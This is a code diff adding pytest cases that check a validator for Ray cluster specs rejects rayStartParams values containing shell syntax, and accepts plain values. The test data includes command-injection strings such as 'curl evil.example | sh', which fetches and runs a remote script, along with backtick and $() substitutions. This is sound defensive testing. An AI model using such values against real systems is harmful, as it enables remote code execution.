@@ -277,3 +277,35 @@ def test_image_rules_bind_rays_runtime_images(runtime_env):
     rule = "spec.image: {pattern: '^registry\\.example\\.com/team-a/'}"
     outcome = run(workload, policies=[policy(rules=rule)])
     assert outcome.codes == ["E405"], outcome.lines
+
+
+@pytest.mark.parametrize(
+    "params",
+    [
+        "{num-cpus: '0; curl evil.example | sh'}",
+        "{num-cpus: '$(curl evil.example)'}",
+        "{num-cpus: '`id`'}",
+        "{'x;id': '1'}",
+        "{num-cpus: \"1\\nid\"}",
+    ],
+)
+def test_ray_start_params_with_shell_syntax_are_refused(params):
+    head = RAY_ONE.replace(
+        "Head: {resources: {cpus: 1, memory: 4}}",
+        f"Head: {{resources: {{cpus: 1, memory: 4}}, rayStartParams: {params}}}",
+    )
+    assert run(head).codes == ["E343"], run(head).lines
+    worker = RAY_ONE.replace(
+        "{name: g, count: 1, resources: {cpus: 1, memory: 4}}",
+        f"{{name: g, count: 1, resources: {{cpus: 1, memory: 4}}, rayStartParams: {params}}}",
+    )
+    assert run(worker).codes == ["E343"]
+
+
+def test_plain_ray_start_params_and_json_resources_pass():
+    params = """{num-cpus: '0', resources: '"{\\"Custom\\": 1}"', object-store-memory: '100000000'}"""
+    head = RAY_ONE.replace(
+        "Head: {resources: {cpus: 1, memory: 4}}",
+        f"Head: {{resources: {{cpus: 1, memory: 4}}, rayStartParams: {params}}}",
+    )
+    assert run(head).codes == [], run(head).lines
